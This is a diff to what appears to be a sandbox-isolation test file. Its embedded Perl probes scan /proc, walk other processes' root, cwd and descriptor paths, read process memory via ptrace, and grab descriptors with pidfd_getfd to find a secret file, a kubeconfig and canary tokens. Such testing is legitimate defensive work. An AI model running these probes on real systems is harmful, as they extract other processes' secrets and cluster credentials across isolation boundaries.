@@ -11,10 +11,12 @@ const KIND = 'tracing';
 const EXECS = 8;
 
 const common = `
-my %seen; my $end = time + 7; print "READY\\n";
+my (%seen, %printed); my $end = time + 7; print "READY\\n";
 my @files = ($ENV{SECRET_FILE}, "$ENV{DATA}/kubeconfig");
+# Once each: a log that is full is rotated, and the nonce with it.
+sub show { print @_ unless $printed{$_[0]}++ }
 sub look { my ($p) = @_;
-  for my $way ("$p/root", "$p/cwd") { for (@files) { my $t = slurp("$way$_"); print $t if $t } }
+  for my $way ("$p/root", "$p/cwd") { for (@files) { my $t = slurp("$way$_"); show($t) if $t } }
 }
 while (time < $end) {
   opendir(my $d, '/proc') or last; my @pids = grep { /^\\d+$/ && $_ != $$PID } readdir $d; closedir $d;
@@ -24,8 +26,8 @@ const LOOK = perl(`${common}
     look("/proc/$pid");
     for my $fd (glob("/proc/$pid/fd/*")) {
       my $to = readlink $fd or next; next if $seen{"$pid $to"}++;
-      if (-d $fd) { for (@files) { my $t = slurp("$fd/../../../../../../..$_"); print $t if $t; } }
-      elsif ($to =~ m{^/} && $to =~ /$ENV{DATA}/) { my $t = slurp($fd); print substr($t, 0, 100000) if defined $t; }
+      if (-d $fd) { for (@files) { my $t = slurp("$fd/../../../../../../..$_"); show($t) if $t; } }
+      elsif ($to =~ m{^/} && $to =~ /$ENV{DATA}/) { my $t = slurp($fd); show("$1\\n") while $t =~ /(canary-[0-9a-f]+-[0-9a-f]+)/g; }
     }
   }
 }`);
@@ -42,7 +44,7 @@ const ATTACH = perl(`${common}
           no warnings 'portable'; my ($a, $b) = (hex $1, hex $2);
           open(my $mem, '<', "/proc/$pid/mem") or last; sysseek($mem, $a, 0);
           sysread($mem, my $t, $b - $a > 1 << 21 ? 1 << 21 : $b - $a); next unless defined $t;
-          print "$1\\n" while $t =~ /(canary-[0-9a-f]+-[0-9a-f]+)/g;
+          show("$1\\n") while $t =~ /(canary-[0-9a-f]+-[0-9a-f]+)/g;
         }
       }
       sys('ptrace', 17, $pid + 0, 0, 0);
@@ -58,8 +60,8 @@ const TAKE = perl(`${common}
     for my $n (0 .. 40) {
       my $fd = sys('pidfd_getfd', $pidfd, $n, 0); next if $fd < 0;
       my $to = readlink("/proc/self/fd/$fd") // '';
-      print "SUCCEEDED: a descriptor of $pid leads to $to\\n" if index($to, $ENV{DATA}) == 0;
-      if (-d "/proc/self/fd/$fd") { for (@files) { my $t = slurp("/proc/self/fd/$fd/../../../../../..$_"); print $t if $t } }
+      show("SUCCEEDED: a descriptor of $pid leads to $to\\n") if index($to, $ENV{DATA}) == 0;
+      if (-d "/proc/self/fd/$fd") { for (@files) { my $t = slurp("/proc/self/fd/$fd/../../../../../..$_"); show($t) if $t } }
       POSIX::close($fd);
     }
     POSIX::close($pidfd);
